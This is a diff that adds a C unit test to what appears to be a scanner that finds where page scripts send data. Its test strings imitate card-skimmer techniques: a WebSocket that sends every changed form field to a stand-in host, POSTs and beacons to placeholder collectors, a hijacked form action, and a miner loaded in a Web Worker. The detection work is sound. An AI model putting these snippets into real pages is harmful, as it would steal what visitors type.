@@ -699,10 +699,43 @@ static void hostile(void **state)
 	assert_int_equal(a.ndest, 0);
 }
 
+/* Where skimmers send what visitors type, besides an image: fetch,
+** WebSocket, EventSource, sendBeacon, XMLHttpRequest; forms given an action
+** through setAttribute on a queried node; miners in Web Workers. */
+static void exfiltration_channels(void **state)
+{
+	(void)state;
+	const struct watch_js_read *r =
+		rd("var s=new WebSocket('wss://api-cdnstats.example/ws');"
+		   "document.addEventListener('change',function(e){s.send(e.target.value)});");
+	only(r, WATCH_REF_IMG, "wss://api-cdnstats.example/ws");
+	r = rd("fetch('https://collect.example/c', {method:'POST', body: d});");
+	only(r, WATCH_REF_IMG, "https://collect.example/c");
+	r = rd("navigator.sendBeacon('https://b.example/p', JSON.stringify(f));");
+	only(r, WATCH_REF_IMG, "https://b.example/p");
+	r = rd("var x = new XMLHttpRequest(); x.open('POST', 'https://x.example/g.php'); x.send(d);");
+	only(r, WATCH_REF_IMG, "https://x.example/g.php");
+	r = rd("new EventSource('https://events.example/s');");
+	only(r, WATCH_REF_IMG, "https://events.example/s");
+	r = rd("setTimeout(function(){document.querySelector('form').setAttribute('action',"
+	       "'https://submit-verify.example/r.php');},500);");
+	only(r, WATCH_REF_FORM, "https://submit-verify.example/r.php");
+	r = rd("var w = new Worker('https://cdn.wasm-lib.example/cn.js'); w.postMessage(1);");
+	only(r, WATCH_REF_SCRIPT, "https://cdn.wasm-lib.example/cn.js");
+	r = rd("importScripts('https://cdn.wasm-lib.example/cn.js');");
+	only(r, WATCH_REF_SCRIPT, "https://cdn.wasm-lib.example/cn.js");
+	/* window.open stays a pop-up, and an element's setAttribute an element's */
+	r = rd("window.open('https://pop.example/', '_blank');");
+	only(r, WATCH_REF_POPUP, "https://pop.example/");
+	r = rd("var a = document.getElementById('q'); a.setAttribute('class', 'x');");
+	assert_int_equal(r->ndest, 0);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(google_tag_manager), cmocka_unit_test(google_tag),
+		cmocka_unit_test(exfiltration_channels),
 		cmocka_unit_test(matomo),	      cmocka_unit_test(yandex_facebook_hotjar),
 		cmocka_unit_test(cloudflare),	      cmocka_unit_test(counters),
 		cmocka_unit_test(chat_widgets),
